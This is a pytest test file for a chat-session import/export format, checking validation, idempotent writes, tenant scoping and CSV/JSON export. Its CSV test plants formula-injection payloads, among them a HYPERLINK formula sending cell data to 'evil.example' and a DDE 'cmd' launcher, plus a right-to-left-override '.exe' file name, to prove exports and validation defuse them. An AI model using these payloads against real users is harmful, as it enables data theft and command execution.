"""The session-v1 format: validation with JSON paths, idempotent writes, all-or-nothing batches,
tenant scoping, and the export -> import -> export round trip; on SQLite and Postgres."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
from sqlalchemy import Engine, func, select
from sqlalchemy.orm import Session

from db.engine import make_engine
from db.migrate import upgrade
from db.models import AuditEvent, ChatSession, Message, Role, SessionLog, Tenant
from sessionlens import (
    admin,
    auth,
    exchange,
    export,
    filter_query,
    geo,
    identity,
    ingest,
    sessions,
    statuses,
)
from sessionlens.errors import NotFound
from sessionlens.exchange import Invalid, SessionIn
from tests.conftest import TESTDATA, _postgres_engine, pg_url
from tests.helpers import actor

NOW = dt.datetime(2026, 11, 26, 10, 0, tzinfo=dt.UTC)
LOCATE = geo.Locator(TESTDATA / "GeoIP2-City-Test.mmdb").locate
SCHEMA = Path(__file__).resolve().parent.parent / "docs" / "schema" / "session-v1.json"


def doc(**over):
    base = {
        "external_id": "rt-1001",
        "agent": "Runtime Agent",
        "channel": "web",
        "customer": {"external_id": "crm-77", "name": "Ada Lovelace", "email": "ada@example.com"},
        "started_at": "2026-11-26T09:00:00Z",
        "parameters": {"utm_source": "newsletter"},
        "ip": "81.2.69.142",
        "messages": [
            {
                "external_id": "m1",
                "author": "customer",
                "text": "Hi, where is my order?",
                "sent_at": "2026-11-26T09:00:05Z",
            },
            {
                "external_id": "m2",
                "author": "ai",
                "text": "It ships **today**.",
                "sent_at": "2026-11-26T09:00:09Z",
                "delivery": {"status": "read"},
                "quick_replies": ["Thanks"],
            },
        ],
        "logs": [
            {"kind": "system", "at": "2026-11-26T09:00:00Z", "text": "Session opened"},
            {
                "kind": "trace",
                "at": "2026-11-26T09:00:08Z",
                "prompt": "You are...",
                "action": "reply",
                "action_input": "It ships today.",
                "message_external_id": "m2",
            },
        ],
    }
    base.update(over)
    return base


def test_the_schema_file_is_the_models():
    assert json.loads(SCHEMA.read_text()) == exchange.schema()


@pytest.mark.parametrize(
    "change, expected",
    [
        ({"channel": "pigeon"}, "$.channel: not one of"),
        ({"started_at": "yesterday"}, "$.started_at: not a datetime"),
        ({"started_at": "2026-11-26T09:00:00"}, "$.started_at: a datetime needs its time zone"),
        ({"agent": None}, "$.agent: not a string"),
        ({"colour": "red"}, "$.colour: unknown field"),
        # the customers table holds 128 characters of an external id (a session's holds 200)
        ({"customer": {"external_id": "c" * 129}}, "$.customer.external_id: longer than 128"),
        # The console's own rules for what its forms take, not stored where nobody can use it:
        ({"ip": "999.1.1.1"}, "$.ip: '999.1.1.1' is not an IP address"),
        ({"ip": "81.2.69.142 "}, "$.ip: '81.2.69.142 ' is not an IP address"),
        (
            {"customer": {"email": "ada at example.com"}},
            "$.customer.email: 'ada at example.com' is not an email address (name@example.com)",
        ),
        ({"customer": {"phone": "call me"}}, "$.customer.phone: 'call me' is not a phone number"),
        ({"customer": {"name": "Ada\u202eecalovoL"}}, "$.customer.name: contains a control"),
        ({"agent": "Aria\nSupport"}, "$.agent: contains a control character (U+000A)"),
        ({"external_id": "conv\t42"}, "$.external_id: contains a control character (U+0009)"),
        ({"customer": {"external_id": "CRM\u200b7"}}, "$.customer.external_id: contains a"),
        ({"customer": {"name": "n" * 1000}}, "$.customer.name: longer than"),  # not "items"
        ({"results": {"": 1}}, "$.results: a key is empty"),
        ({"status": "closed, won"}, "$.status: holds a comma, which the Statuses filter uses"),
        (
            {"logs": [{"kind": "system", "at": "2026-11-26T09:00:00Z", "text": " "}]},
            "$.logs[0]: a System Logs line needs its text",
        ),
        (
            {"logs": [{"kind": "trace", "at": "2026-11-26T09:00:00Z", "agent_name": "Aria"}]},
            "$.logs[0]: a trace call needs its text, prompt, action or action input",
        ),
        (
            {
                "messages": [
                    {"author": "ai", "text": "x", "sent_at": NOW.isoformat(), "template": 1}
                ]
            },
            "$.messages[0].template: not true or false",
        ),
        (
            {
                "messages": [
                    {
                        "author": "ai",
                        "text": "x",
                        "sent_at": "2026-11-26T09:00:00Z",
                        "quick_replies": ["Yes", ""],
                    }
                ]
            },
            "$.messages[0].quick_replies[1]: empty",
        ),
        (
            {
                "messages": [
                    {
                        "author": "customer",
                        "sent_at": "2026-11-26T09:00:00Z",
                        "attachments": [
                            {"file_name": "invoice_\u202efdp.exe", "content_base64": "aGk="}
                        ],
                    }
                ]
            },
            "$.messages[0].attachments[0].file_name: contains a control character (U+202E)",
        ),
        ({"parameters": {"k" * 201: 1}}, "$.parameters: the key 'kkk"),
        ({"parameters": {"utm\tsource": 1}}, "$.parameters: the key 'utm\\tsource' contains a"),
    ],
)
def test_bad_documents_name_the_field(change, expected):
    with pytest.raises(Invalid) as err:
        exchange.parse(SessionIn, doc(**change))
    assert any(e.startswith(expected) for e in err.value.errors), err.value.errors


def test_an_ip_sent_in_a_later_copy_of_the_document_is_set_and_located(db):
    """ "The fields the document gives are set": the IP, known only later (a runtime that learns
    it after opening the session), was kept unset, and the Country filter never found it."""
    who = actor(db)
    first = ingest.upsert_session(
        db,
        exchange.parse(SessionIn, doc(external_id="ip-later", ip=None)),
        actor=who,
        now=NOW,
        locate=LOCATE,
    )
    assert db.get_one(ChatSession, first.session_id).country is None
    ingest.upsert_session(
        db,
        exchange.parse(SessionIn, doc(external_id="ip-later")),
        actor=who,
        now=NOW,
        locate=LOCATE,
    )
    cs = db.get_one(ChatSession, first.session_id)
    assert (cs.ip, cs.country) == ("81.2.69.142", "GB")
    ingest.upsert_session(  # a copy without the IP leaves it as it is
        db,
        exchange.parse(
            SessionIn, {k: v for k, v in doc(external_id="ip-later").items() if k != "ip"}
        ),
        actor=who,
        now=NOW,
        locate=LOCATE,
    )
    assert db.get_one(ChatSession, first.session_id).country == "GB"


def test_names_are_tidied_as_the_forms_tidy_them_and_ids_are_kept_as_sent(db):
    """ "Aria (Support) " made a second agent that looked like the first in every list."""
    parsed = exchange.parse(
        SessionIn,
        doc(
            external_id=" rt-77 ",
            agent="  Aria  (Support) ",
            customer={"external_id": "crm 9 ", "name": " Ada  Lovelace"},
        ),
    )
    assert (parsed.agent, parsed.customer.name) == ("Aria (Support)", "Ada Lovelace")
    assert (parsed.external_id, parsed.customer.external_id) == (" rt-77 ", "crm 9 ")
    with pytest.raises(Invalid) as err:
        exchange.parse(SessionIn, doc(agent="   "))
    assert err.value.errors == ["$.agent: blank"]


def test_an_ip_address_is_stored_in_the_form_the_ip_filter_looks_for(db):
    """A runtime that writes an IPv6 address in capitals or with its zeros: the IP filter, which
    takes the address as a lead types it, finds the session (it found nothing)."""
    who = actor(db)
    sent = doc(external_id="v6-1", ip="2001:0DB8:0000:0000:0000:0000:0000:0001")
    done = ingest.upsert_session(
        db, exchange.parse(SessionIn, sent), actor=who, now=NOW, locate=LOCATE
    )
    flt = filter_query.parse({"ip": "2001:db8::1"}, "UTC")
    found = sessions.list_page(db, flt, actor=who, limit=50)
    assert [r.id for r in found.rows] == [done.session_id]
    assert db.get_one(ChatSession, done.session_id).ip == "2001:db8::1"


def test_a_message_says_something_and_only_what_the_customer_was_sent_has_a_reaction():
    """An empty customer message drew a bubble holding only its time; a customer's own message
    with a delivery status or a thumbs-up showed them as if the customer had been sent it."""
    empty = {"author": "customer", "text": " ", "sent_at": "2026-11-26T09:00:05Z"}
    liked = {
        "author": "customer",
        "text": "Hi",
        "reaction": "up",
        "sent_at": "2026-11-26T09:00:06Z",
    }
    read = {**liked, "reaction": None, "delivery": {"status": "read"}}
    with pytest.raises(Invalid) as err:
        exchange.parse(SessionIn, doc(messages=[empty, liked, read]))
    assert err.value.errors == [
        "$.messages[0]: no text and no attachment: a message needs one or the other",
        "$.messages[1].reaction: only a message sent to the customer (author ai or human) has one",
        "$.messages[2].delivery: only a message sent to the customer (author ai or human) has one",
    ]
    marker = {"author": "system", "event": "transfer", "sent_at": "2026-11-26T09:00:07Z"}
    answer = {**liked, "author": "ai", "delivery": {"status": "read"}}
    assert len(exchange.parse(SessionIn, doc(messages=[marker, answer])).messages) == 2


def test_errors_deep_in_the_messages_name_their_index_and_a_huge_message_is_refused():
    messages = doc()["messages"] * 2
    messages = [dict(m, external_id=f"m{i}") for i, m in enumerate(messages)]
    messages[3] = dict(messages[3], sent_at="not a time")
    messages[1] = dict(messages[1], text="x" * (50 * 1024 * 1024))
    del messages[0]["author"]
    with pytest.raises(Invalid) as err:
        exchange.parse(SessionIn, doc(messages=messages))
    assert err.value.errors == [
        "$.messages[0].author: required",
        "$.messages[1].text: longer than 1,000,000 characters",
        "$.messages[3].sent_at: not a datetime",
    ]


def test_a_nul_character_is_refused_on_both_databases_and_nothing_is_written(db):
    """Postgres stores no NUL character in text or JSON (the API answered 500), SQLite stored it:
    a file or request holding one is refused on both, naming where, and nothing is written."""
    import json

    bad = doc(external_id="nul-1")
    bad["customer"]["name"] = "Eve\x00Null"
    bad["parameters"] = {"page\x00": "/checkout"}
    bad["messages"][1]["text"] = "It ships \x00today."
    raw = json.dumps([bad]).encode()
    before = db.scalar(select(func.count()).select_from(ChatSession))
    with pytest.raises(exchange.Invalid) as refused:
        ingest.read_file(raw, "sessions.json")
    assert refused.value.errors == [
        "$[0].customer.name: holds a NUL character (\\u0000)",
        "$[0].parameters.'page\\x00': holds a NUL character (\\u0000)",
        "$[0].messages[1].text: holds a NUL character (\\u0000)",
    ]
    assert db.scalar(select(func.count()).select_from(ChatSession)) == before
    fine = json.loads(json.dumps(bad).replace("\\u0000", ""))
    docs = ingest.read_file(json.dumps(fine).encode(), "sessions.json")
    ingest.import_documents(db, docs, actor=actor(db), now=NOW, locate=LOCATE)
    assert db.scalar(select(func.count()).select_from(ChatSession)) == before + 1


def test_the_same_document_twice_makes_one_session(db):
    who = actor(db)
    first = ingest.upsert_session(
        db, exchange.parse(SessionIn, doc()), actor=who, now=NOW, locate=LOCATE
    )
    again = ingest.upsert_session(
        db, exchange.parse(SessionIn, doc()), actor=who, now=NOW, locate=LOCATE
    )
    assert first.created and not again.created and first.session_id == again.session_id
    assert (first.messages_added, again.messages_added, again.messages_skipped) == (2, 0, 2)
    assert (first.logs_added, again.logs_added) == (2, 0)
    cs = db.get_one(ChatSession, first.session_id)
    assert cs.message_count == 2 and cs.last_message_at == dt.datetime(
        2026, 11, 26, 9, 0, 9, tzinfo=dt.UTC
    )
    assert cs.country == "GB" and cs.results == {}
    trace = db.scalars(
        select(SessionLog).where(SessionLog.session_id == cs.id, SessionLog.kind == "trace")
    ).one()
    m2 = db.scalars(
        select(Message).where(Message.session_id == cs.id, Message.external_id == "m2")
    ).one()
    assert trace.message_id == m2.id


def test_appending_a_batch_is_idempotent_and_ordered(db):
    who = actor(db)
    ingest.upsert_session(db, exchange.parse(SessionIn, doc()), actor=who, now=NOW, locate=LOCATE)
    batch = exchange.parse(
        exchange.MessagesIn,
        {
            "messages": [
                {
                    "external_id": "m2",
                    "author": "ai",
                    "text": "dup",
                    "sent_at": "2026-11-26T09:00:09Z",
                },
                {
                    "external_id": "m3",
                    "author": "customer",
                    "text": "Great",
                    "sent_at": "2026-11-26T09:01:00Z",
                },
                {
                    "external_id": "m3",
                    "author": "customer",
                    "text": "Great",
                    "sent_at": "2026-11-26T09:01:00Z",
                },
                {"author": "private_note", "text": "VIP", "sent_at": "2026-11-26T09:01:01Z"},
            ]
        },
    )
    out = ingest.append_messages(db, "rt-1001", batch.messages, actor=who)
    assert (out.messages_added, out.messages_skipped) == (2, 2)
    cs = db.get_one(ChatSession, out.session_id)
    rows = db.execute(
        select(Message.system_event, Message.text)
        .where(Message.session_id == cs.id)
        .order_by(Message.seq)
    ).all()
    assert [tuple(r) for r in rows] == [
        ("started", ""),  # "Client started the session at …", written with the session
        (None, "Hi, where is my order?"),
        (None, "It ships **today**."),
        (None, "Great"),
        (None, "VIP"),
    ]
    assert cs.message_count == 3  # the private note is shown, not counted


def test_another_tenants_ids_look_missing(db):
    mine, theirs = actor(db), actor(db, 1)
    ingest.upsert_session(db, exchange.parse(SessionIn, doc()), actor=mine, now=NOW, locate=LOCATE)
    batch = exchange.parse(exchange.MessagesIn, {"messages": [doc()["messages"][0]]})
    with pytest.raises(NotFound):
        ingest.append_messages(db, "rt-1001", batch.messages, actor=theirs)
    other = ingest.upsert_session(
        db, exchange.parse(SessionIn, doc()), actor=theirs, now=NOW, locate=LOCATE
    )
    assert other.created  # the same runtime id in another tenant is another session


def _empty(engine: Engine, tmp_path: Path) -> Engine:
    if engine.dialect.name == "sqlite":
        fresh = make_engine(f"sqlite:///{tmp_path / 'empty.db'}")
    else:
        fresh = _postgres_engine(pg_url("sessionlens_roundtrip"))
    upgrade(fresh)
    return fresh


def _export(engine: Engine, fmt: str) -> bytes:
    with Session(engine) as db:
        who = identity.default_actor(db)
        return b"".join(export.stream(db, fmt, actor=who, now=NOW))


def test_a_file_with_statuses_the_workspace_lacks_is_refused_unless_an_admin_imports_it(db):
    """Only an admin changes the workspace's statuses: an operator's import of a file whose
    sessions have statuses the workspace lacks names every such session and writes nothing; an
    admin's adds them to the list, in the file's order, with an audit row."""
    before = statuses.of_tenant(db, actor(db).tenant_id)
    docs = [
        exchange.parse(SessionIn, doc(external_id="st-1", status="waiting")),
        exchange.parse(SessionIn, doc(external_id="st-2", status="open")),
        exchange.parse(SessionIn, doc(external_id="st-3", status="on hold")),
        exchange.parse(SessionIn, doc(external_id="st-4", status="waiting")),
    ]
    with pytest.raises(Invalid) as err:
        ingest.import_documents(
            db, docs, actor=actor(db, role=Role.OPERATOR), now=NOW, locate=LOCATE
        )
    assert [e.split(": $.status: ")[0] for e in err.value.errors] == [
        "session 'st-1'",
        "session 'st-3'",
        "session 'st-4'",
    ]
    assert "'on hold' is not one of this workspace's statuses" in err.value.errors[1]
    assert db.scalar(select(func.count()).where(ChatSession.external_id.like("st-%"))) == 0
    report = ingest.import_documents(db, docs, actor=actor(db), now=NOW, locate=LOCATE)
    assert report.created == 4 and report.statuses_added == ["waiting", "on hold"]
    assert statuses.of_tenant(db, actor(db).tenant_id) == [*before, "waiting", "on hold"]
    row = db.scalars(select(AuditEvent).order_by(AuditEvent.id.desc()).limit(2)).all()[-1]
    assert (row.action, row.details["added"]) == ("tenant_changed", ["waiting", "on hold"])


def test_a_document_without_a_status_starts_as_the_workspace_starts_its_sessions(db):
    """A workspace that renamed "open" (statuses "new", "done"): a runtime's document that gives
    no status was refused as "'open' is not one of this workspace's statuses", a status it never
    sent. It takes the workspace's first status, as a recording's session does; one it does
    send is still checked, and an import of such documents adds no status."""
    who = actor(db)
    tenant = db.get_one(Tenant, who.tenant_id)
    kept = list(tenant.statuses)
    tenant.statuses = ["new", "done"]
    db.flush()
    try:
        bare = doc(external_id="no-status")
        done = ingest.upsert_session(
            db, exchange.parse(SessionIn, bare), actor=who, now=NOW, locate=LOCATE
        )
        assert db.get_one(ChatSession, done.session_id).status == "new"
        sent = exchange.parse(SessionIn, doc(external_id="said-open", status="open"))
        with pytest.raises(Invalid, match="'open' is not one of this workspace's statuses"):
            ingest.upsert_session(db, sent, actor=who, now=NOW, locate=LOCATE)
        again = [exchange.parse(SessionIn, doc(external_id="file-no-status"))]
        assert ingest.new_statuses(db, again, actor=who) == ([], [])
    finally:
        tenant.statuses = kept


def test_export_import_export_gives_the_same_bytes(engine, tmp_path):
    first = _export(engine, "jsonl")
    fresh = _empty(engine, tmp_path)
    with Session(fresh) as db, db.begin():
        tenant = admin.add_tenant(db, name="Copy", timezone="UTC", plan="paid", now=NOW)
        boss = auth.add_user(
            db,
            email="copy@example.com",
            name="Copy Admin",
            role="admin",
            password=None,
            tenant=str(tenant.id),
        )
        who = identity.actor_for(boss)
        ingest.import_documents(
            db, ingest.read_file(first, "all.jsonl"), actor=who, now=NOW, locate=LOCATE
        )
    second = _export(fresh, "jsonl")
    assert first.count(b"\n") > 10 and second == first
    assert json.loads(_export(fresh, "json")) == [
        json.loads(x) for x in first.decode().splitlines()
    ]
    fresh.dispose()


def test_a_csv_cell_that_would_run_as_a_formula_is_written_as_text(db):
    """A customer who writes ``=HYPERLINK(…)`` or is named ``@SUM(…)`` gets no formula run on the
    lead who opens the export in a spreadsheet: such cells start with an apostrophe (shown by no
    spreadsheet); every other cell, and the JSON export, keep the text as it was."""
    who = actor(db)
    link = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
    messages = [
        {
            "external_id": "f1",
            "author": "customer",
            "text": link,
            "sent_at": "2026-11-26T09:00:05Z",
        },
        {
            "external_id": "f2",
            "author": "customer",
            "text": "-1 for the wait",
            "sent_at": "2026-11-26T09:00:06Z",
        },
        {
            "external_id": "f3",
            "author": "ai",
            "text": "Sorry = not fine",
            "sent_at": "2026-11-26T09:00:07Z",
        },
    ]
    customer = {"external_id": "crm-f", "name": "@SUM(1+1)*cmd|' /C calc'!A0"}
    ingest.upsert_session(
        db,
        exchange.parse(
            SessionIn, doc(external_id="formula-1", messages=messages, customer=customer)
        ),
        actor=who,
        now=NOW,
        locate=LOCATE,
    )
    raw = b"".join(export.stream(db, "csv", actor=who, now=NOW)).decode("utf-8-sig")
    rows = [r for r in csv.DictReader(io.StringIO(raw)) if r["session_external_id"] == "formula-1"]
    # a marker's row reads as the chat's line does
    assert rows[0]["text"] == "Client started the session at 2026-11-26T09:00:00Z"
    assert [r["text"] for r in rows if r["author"] != "system"] == [
        "'" + link,
        "'-1 for the wait",
        "Sorry = not fine",
    ]
    assert {r["customer"] for r in rows} == {"'" + customer["name"]}
    docs = [
        json.loads(x) for x in b"".join(export.stream(db, "jsonl", actor=who, now=NOW)).splitlines()
    ]
    ours = next(d for d in docs if d["external_id"] == "formula-1")
    assert ours["messages"][0]["event"] == "started"
    assert ours["messages"][1]["text"] == link and ours["customer"]["name"] == customer["name"]


def test_csv_opens_with_pythons_csv_module_one_row_per_message(engine):
    raw = _export(engine, "csv")
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    with Session(engine) as db:
        who = identity.default_actor(db)
        total = db.scalar(
            select(func.count()).select_from(Message).where(Message.tenant_id == who.tenant_id)
        )
    assert len(rows) == total
    assert set(rows[0]) == set(export.CSV_COLUMNS)
    with Session(engine) as db:
        multiline = db.scalar(
            select(Message.text)
            .where(Message.tenant_id == who.tenant_id, Message.text.like("%\n%"))
            .limit(1)
        )
    assert multiline and multiline in {r["text"] for r in rows}  # line breaks, commas, quotes kept


def test_export_needs_the_export_permission(db):
    from sessionlens.errors import PermissionDenied
    from sessionlens.kinds import Role

    with pytest.raises(PermissionDenied):
        next(export.stream(db, "json", actor=actor(db, 0, Role.VIEWER), now=NOW))


def test_api_keys_name_a_tenant_and_an_actor(db):
    boss = actor(db)
    key = admin.create_api_key(db, actor=boss, name="runtime", now=NOW)
    who = admin.api_actor(db, key)
    assert who.tenant_id == boss.tenant_id and who.name == "API key runtime"
    assert admin.api_actor(db, "slk_wrong") is None
